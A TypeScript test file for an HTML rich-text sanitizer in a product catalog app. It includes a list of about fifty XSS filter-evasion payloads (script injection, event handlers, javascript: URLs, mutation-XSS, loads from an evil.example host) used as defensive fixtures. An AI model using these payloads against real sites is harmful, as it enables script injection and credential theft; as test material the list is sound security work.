import { describe, expect, test } from 'vitest';
import { readProducts } from '#db/sample/sampleFiles.ts';
import { RICH_TEXT_TAGS } from '#shared/domain/catalog/products/richText.ts';
import { sanitizeContent } from './sanitizeContent.ts';

describe('the editor’s output is unchanged', () => {
  test.each([
    '<p>A <strong>bold</strong>, <em>slanted</em>, <u>underlined</u>, <s>struck</s> and <code>coded</code> word.</p>',
    '<h2>Size chart</h2><h3>Shirts</h3><h4>For women</h4>',
    '<ul><li><p>one</p><ol><li><p>deeper</p></li></ol></li></ul><ol start="3" type="a"><li><p>c</p></li></ol>',
    '<blockquote><p>quoted</p></blockquote><pre><code>  two\n  lines</code></pre><hr><p>a<br>b</p><p></p><p>c</p>',
    '<p><a href="https://example.edu/a?b=1&amp;c=2" rel="noopener">web</a></p>',
    '<p><a href="mailto:shop@example.edu" rel="noopener">mail</a> <a href="tel:+639171234567" rel="noopener">call</a></p>',
    '<table><thead><tr><th>Size</th><th colspan="2">Chest</th></tr></thead><tbody><tr><td>S</td><td>36</td></tr></tbody></table>',
    '<p><img src="/public/images/0a1b2c.jpg?w=480" alt="The cut, seen from &quot;above&quot;"></p>',
    '<p>₱1,234.50 – ½ “quoted” 教科書 😀 5 &lt; 6 &amp; 7 &gt; 6</p>',
    'Text of no paragraph',
  ])('%s', (html) => {
    expect(sanitizeContent(html)).toBe(html);
  });

  test('the content of the sample catalog is unchanged', async () => {
    const { columns, rows } = await readProducts();
    const contents = new Set(rows.map(({ cells }) => cells[columns.indexOf('content')] ?? ''));
    expect(contents.size).toBeGreaterThan(100);
    for (const content of contents) expect(sanitizeContent(content)).toBe(content);
  });
});

test.each([
  ['<b>b</b><i>i</i><del>d</del><strike>s</strike>', '<strong>b</strong><em>i</em><s>d</s><s>s</s>'],
  ['<h1>top</h1><h5>five</h5><h6>six</h6>', '<h2>top</h2><h4>five</h4><h4>six</h4>'],
  ['<p style="color:red" class="x" id="y" data-z="1" lang="en">plain</p>', '<p>plain</p>'],
  [
    '<a href="https://a.example" target="_blank" rel="opener" ping="/x">a</a>',
    '<a href="https://a.example" rel="noopener">a</a>',
  ],
  ['<section><span>kept</span> text</section><font size="7">!</font>', 'kept text!'],
  ['<ol start="-1" type="disc"><li>x</li></ol>', '<ol><li>x</li></ol>'],
  ['<td colspan="0" rowspan="1000">x</td>', '<td>x</td>'],
  ['<p>a\u0000b\u0007c</p>', '<p>abc</p>'],
  ['<p>open', '<p>open</p>'],
])('%s is sanitized to %s', (html, sanitized) => {
  expect(sanitizeContent(html)).toBe(sanitized);
});

test.each([
  '',
  '<p></p>',
  '<p> </p>',
  '<p>&nbsp;</p>',
  '<p><br></p>',
  '<h2></h2><ul><li><p></p></li></ul>',
  ' \n',
  '<p>\u200b</p>',
])('a document without visible content is empty text: %j', (html) => {
  expect(sanitizeContent(html)).toBe('');
});

test.each(['<hr>', '<img src="/public/images/a.jpg">'])('%s is visible content', (html) => {
  expect(sanitizeContent(html)).toBe(html);
});

/** From the collections of filter evasions by OWASP and the authors of sanitizers. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/public/images/a.jpg" onload="alert(1)">',
  '<img src="https://evil.example/pixel.jpg">',
  '<img src="//evil.example/pixel.jpg">',
  '<img src="/public/images/../../api/users/1.jpg">',
  '<img src="/public/images/proof-0a1b.jpg?expires=1&signature=x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscr\nipt:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="javascript&#0000058alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/api/users/1">x</a>',
  '<a href="https://a.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href=`javascript:alert(1)`>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="x.swf">',
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href=//evil.example>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p><table><td><select><option><script>alert(1)</script>',
  '<p onmouseover="alert(1)"/onfocus=alert(1) autofocus tabindex=1>x</p>',
  '<img src="/public/images/a.jpg" alt="&quot; onerror=alert(1) x=&quot;">',
  '<constructor onclick=alert(1)>x</constructor><p constructor=alert(1) __proto__=x>y</p>',
  '<a href="https://a.example/&quot;onmouseover=alert(1)">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<<p>script>alert(1)<</p>/script>',
];

/** All allowed text between angle brackets: each tag with its allowed attributes. Written independently of the code. */
const HARMLESS_TAG = new RegExp(
  `^(${[
    `</?(${RICH_TEXT_TAGS.join('|')})>`,
    '<a href="(https?|mailto|tel):[^"<>]*" rel="noopener">',
    '<img src="/public/images/(?!proof-)\\w+\\.jpg(\\?w=\\d+)?"( alt="[^"<>]*")?>',
    '<ol( start="\\d+")?( type="\\w")?>',
    '<t[hd]( (col|row)span="\\d+")*>',
  ].join('|')})$`,
);

function expectHarmless(html: string) {
  const sanitized = sanitizeContent(html);
  const tags = sanitized.match(/<[^>]*>?/g) ?? [];
  for (const tag of tags) expect(tag, `${html} became ${sanitized}`).toMatch(HARMLESS_TAG);
  // Text outside of these tags must contain no bracket, so that a browser reads it as text.
  expect(sanitized.replace(/<[^>]*>/g, ''), html).not.toMatch(/[<>]/);
  expect(sanitizeContent(sanitized), html).toBe(sanitized);
}

test.each(HOSTILE)('no part of %s is active', (html) => {
  expectHarmless(html);
});

test('no mixture of them is active, and sanitized text stays unchanged', () => {
  const pieces = [
    ...HOSTILE,
    '<p>',
    '</p>',
    '<ul><li>',
    '</ul>',
    '<h1>',
    '</h3>',
    '<a href="https://a.example">',
    '<',
    '"',
    '-->',
    '&',
    '<table>',
  ];
  let seed = 20_261_120;
  const next = (below: number) => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
    return Math.floor((seed / 2_147_483_648) * below);
  };
  for (let round = 0; round < 1_500; round += 1) {
    const mixture = Array.from({ length: 1 + next(6) }, () => {
      const piece = pieces[next(pieces.length)] ?? '';
      return next(3) === 0 ? piece.slice(next(piece.length), next(piece.length) + 1) : piece;
    }).join('');
    expectHarmless(mixture);
  }
});

test('too deeply nested text loses its tags and keeps its text', () => {
  const sanitized = sanitizeContent(`${'<blockquote>'.repeat(5_000)}<p>deep</p>`);
  expect(sanitized).toContain('deep');
  expect(sanitized.match(/<blockquote>/g)).toHaveLength(40);
  expect(sanitizeContent(sanitized)).toBe(sanitized);
});
